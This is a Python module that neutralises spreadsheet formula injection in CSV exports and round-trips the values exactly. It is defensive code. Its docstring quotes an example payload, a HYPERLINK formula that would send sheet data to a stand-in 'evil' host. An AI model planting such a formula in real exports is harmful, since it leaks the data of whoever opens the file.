"""CSV that is safe to open in a spreadsheet and that reads back exactly.

Every CSV Shelf writes goes through :func:`writer` (``shelf export``, and
any "download this list" page): use it instead of ``csv.writer``.

Formula injection: a spreadsheet runs a cell that starts with ``=``, ``+``,
``-`` or ``@`` (and some also one that starts with a tab or a carriage
return) as a formula, so a title such as ``=HYPERLINK("http://evil/?"&A1)``
would leak the sheet when a curator opens the export. The rule:

* on writing, a cell that starts with one of those characters, or with
  apostrophes followed by one of them, gets one more apostrophe in front:
  ``=1+1`` -> ``'=1+1``, ``'=x`` -> ``''=x``; spreadsheets show ``'=1+1``
  as the text ``=1+1``;
* on reading (:func:`restore`), one apostrophe is taken off a cell of that
  shape; every other cell, ``'quoted'`` included, is read as it is.

The two are inverse, so a Shelf export re-imports to the very same values.

Line breaks: every cell holding a line feed or a carriage return is quoted
(the csv module alone leaves a lone CR unquoted when rows end in ``\\n``,
and such a file no longer reads back).
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable
from typing import IO, Any

TRIGGERS = "=+-@\t\r"
_NEUTRALISED = re.compile(r"'+[=+\-@\t\r]")


def neutralise(value: Any) -> str:
    """The cell as written: never read as a formula."""
    text = "" if value is None else str(value)
    if text and (text[0] in TRIGGERS or _NEUTRALISED.match(text)):
        return "'" + text
    return text


def restore(text: str) -> str:
    """The inverse of :func:`neutralise`, for cells read back."""
    if _NEUTRALISED.match(text):
        return text[1:]
    return text


class SafeWriter:
    """``csv.writer`` with neutralised cells and every line break quoted."""

    def __init__(self, out: IO[str], **kwargs):
        kwargs.setdefault("lineterminator", "\n")
        self._plain = csv.writer(out, **kwargs)
        self._quoted = csv.writer(out, quoting=csv.QUOTE_ALL, **kwargs)

    def writerow(self, row: Iterable[Any]) -> None:
        cells = [neutralise(v) for v in row]
        # QUOTE_MINIMAL only looks at the line terminator's characters; a
        # row with a CR in any cell is written fully quoted instead.
        if any("\r" in c for c in cells):
            self._quoted.writerow(cells)
        else:
            self._plain.writerow(cells)

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def writer(out: IO[str], **kwargs) -> SafeWriter:
    """A CSV writer for anything Shelf lets people download."""
    return SafeWriter(out, **kwargs)
